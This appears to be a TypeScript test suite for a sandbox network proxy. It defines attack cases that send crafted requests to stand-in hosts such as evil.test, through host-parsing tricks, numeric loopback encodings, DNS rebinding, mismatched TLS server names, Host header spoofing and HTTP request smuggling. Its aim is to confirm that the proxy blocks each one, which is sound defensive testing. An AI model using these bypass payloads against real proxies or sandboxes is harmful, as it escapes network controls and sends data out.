import type { AttackCase } from "../attack-case.ts";
import { addresses } from "../fake-internet/zone.ts";
import { type NetworkScene, networkAttack, python } from "./network-attack.ts";

const sandboxes = ["allowing"] as const;

/** Sends each text, as bytes, to the proxy over a connection of its own; prints the status line of the last answer. */
function send(target: NetworkScene["target"], texts: readonly string[]): readonly [string, ...string[]] {
  const [host, port] = target.proxy.split(":");
  return python(`import json, socket
result = "no answer"
for text in json.loads(${JSON.stringify(JSON.stringify(texts))}):
    one = socket.create_connection(("${host}", ${port}), 10)
    one.settimeout(4)
    try:
        one.sendall(text.encode("latin1"))
        answer = b""
        while True:
            data = one.recv(65536)
            if not data:
                break
            answer += data
    except OSError:
        pass
    result = answer.split(b"\\r\\n")[0].decode() or "no answer"
print(result)`);
}

/** A tunnel to a host, and TLS in it with another name in its hello, or none. */
function tunnelTls(
  { target, token }: NetworkScene,
  host: string,
  serverName: string | undefined,
): readonly [string, ...string[]] {
  const [proxy, port] = target.proxy.split(":");
  return python(`import socket, ssl
one = socket.create_connection(("${proxy}", ${port}), 10)
one.settimeout(5)
one.sendall(b"CONNECT ${host}:443 HTTP/1.1\\r\\nHost: ${host}:443\\r\\n\\r\\n")
answer = one.recv(65536)
context = ssl._create_unverified_context()
result = "the tunnel was closed"
try:
    inner = context.wrap_socket(one, server_hostname=${serverName === undefined ? "None" : `"${serverName}"`})
    inner.sendall(b"GET /${token} HTTP/1.1\\r\\nHost: ${serverName ?? host}\\r\\nConnection: close\\r\\n\\r\\n")
    result = inner.recv(65536).split(b"\\r\\n")[0].decode()
except OSError:
    pass
print(result)`);
}

const get = (url: string, host = "allowed.test") =>
  `GET ${url} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`;

/** Names that a rule allows, whose owner points them at what is not his. */
const elsewhere = [
  "loopback",
  "private",
  "link-local",
  "neighbour",
  "mapped",
  "translated",
  "nat64",
  "six-to-four",
  "unique-local",
].map((name) => `${name}.test`);

/** Bytes sent to the proxy by hand. With the protection off they go to a proxy that compares text. */
export const proxyCases: readonly AttackCase[] = [
  networkAttack({
    name: "hostile-hosts",
    attack: 38,
    title: "NUL, %00, @, #, \\, tab and line ends in the host",
    protection: "hosts are canonical or refused",
    sandboxes,
    program: ({ token, target }) =>
      send(target, [
        get(`http://evil.test\0.allowed.test/${token}`),
        get(`http://evil.test%00.allowed.test/${token}`),
        get(`http://evil.test#.allowed.test/${token}`),
        get(`http://evil.test\\.allowed.test/${token}`),
        get(`http://evil.test\t.allowed.test/${token}`),
        get(`http://allowed.test\r\nX: http://evil.test/${token}`),
        get(`http://allowed.test@evil.test/${token}`),
      ]),
    arrived: (arrival, { token }) =>
      arrival.kind === "request" && arrival.to === addresses.attacker && arrival.target.includes(token),
  }),
  networkAttack({
    name: "numeric-hosts",
    attack: 39,
    title: "The loopback as 127.1, 0x7f.1, 2130706433, 0177.0.0.1 and [::ffff:7f00:1]",
    protection: "hosts are canonical; addresses that are not public are denied",
    sandboxes,
    program: ({ token, target }) =>
      send(
        target,
        ["127.1", "0x7f.1", "2130706433", "0177.0.0.1", "[::ffff:7f00:1]", "127.0.0.1%25lo", "localhost"].map(
          (host) => get(`http://${host}/${token}`, host),
        ),
      ),
  }),
  networkAttack({
    name: "resolved-address",
    attack: 40,
    title: "Allowed names that resolve to the loopback, private, link-local and translated addresses",
    protection: "each resolved address is judged before it is dialled",
    sandboxes,
    program: ({ token, target }) =>
      send(
        target,
        elsewhere.map((host) => get(`http://${host}/${token}`, host)),
      ),
    arrived: (arrival, { token }) => arrival.kind === "request" && arrival.target.includes(token),
  }),
  networkAttack({
    name: "flip-flop-names",
    attack: 41,
    title: "A name that resolves to a public address once and to the loopback the next time",
    protection: "a name is resolved once, and the judged address is dialled",
    failure: "only the public address was dialled",
    sandboxes,
    program: ({ token, target }) =>
      send(
        target,
        Array.from({ length: 6 }, () => get(`http://flip.test/${token}`, "flip.test")),
      ),
    arrived: (arrival, { token }) =>
      arrival.kind === "request" && arrival.to !== addresses.allowed && arrival.target.includes(token),
  }),
  networkAttack({
    name: "other-server-name",
    attack: 42,
    title: "A tunnel to an allowed host, and another name in the TLS hello",
    protection: "the hello is read and must name the same host",
    sandboxes,
    program: (scene) => tunnelTls(scene, "allowed.test", "evil.test"),
  }),
  networkAttack({
    name: "no-server-name",
    attack: 42,
    title: "A tunnel to an allowed host, and no name in the TLS hello",
    protection: "the hello is read and must name the same host",
    sandboxes,
    program: (scene) => tunnelTls(scene, "allowed.test", undefined),
  }),
  networkAttack({
    name: "plain-bytes-in-tunnel",
    attack: 43,
    title: "SSH and plain bytes in a tunnel that is for TLS",
    protection: "only TLS goes through CONNECT, unless a tcp rule says otherwise",
    failure: "nothing arrived; the tunnel was closed",
    sandboxes,
    program: ({ token, target }) =>
      send(target, [`CONNECT allowed.test:9000 HTTP/1.1\r\nHost: allowed.test\r\n\r\nSSH-2.0-${token}\r\n`]),
  }),
  networkAttack({
    name: "other-host-header",
    attack: 44,
    title: "A request for an allowed host, with another host in its Host header",
    protection: "Host is written anew from the target",
    failure: "the request arrived with its Host written anew",
    sandboxes,
    program: ({ token, target }) => send(target, [get(`http://allowed.test/${token}`, "evil.test")]),
    arrived: (arrival, { token }) =>
      arrival.kind === "request" &&
      arrival.target.includes(token) &&
      arrival.headers.host?.includes("evil") === true,
  }),
  networkAttack({
    name: "smuggled-request",
    attack: 45,
    title: "A second request behind the first, alone or in the gap between Content-Length and chunks",
    protection: "a strict parser; each request is judged for itself",
    failure: "only the first request arrived",
    sandboxes,
    program: ({ token, target }) => {
      const inner = `GET http://evil.test/${token} HTTP/1.1\r\nHost: evil.test\r\n\r\n`;
      const first = "http://allowed.test/first HTTP/1.1\r\nHost: allowed.test\r\n";
      return send(target, [
        `POST ${first}Content-Length: ${inner.length + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${inner}`,
        `GET ${first} X: folded\r\n\r\n${inner}`,
        `GET ${first}\n${inner}`,
        `GET ${first}\r\n${inner}`,
      ]);
    },
    arrived: (arrival, { token }) =>
      arrival.kind === "request" &&
      arrival.target.includes(token) &&
      (arrival.to === addresses.attacker || arrival.headers.host === "evil.test"),
  }),
  networkAttack({
    name: "hostile-targets",
    attack: 45,
    title: "A user in the URL, and schemes other than http",
    protection: "absolute http: URLs without a user alone",
    sandboxes,
    program: ({ token, target }) =>
      send(target, [
        get(`https://allowed.test/${token}`),
        get(`ftp://allowed.test/${token}`),
        get(`http://user:secret@allowed.test/${token}`),
      ]),
    arrived: (arrival, { token }) => arrival.kind === "request" && arrival.target.includes(token),
  }),
];
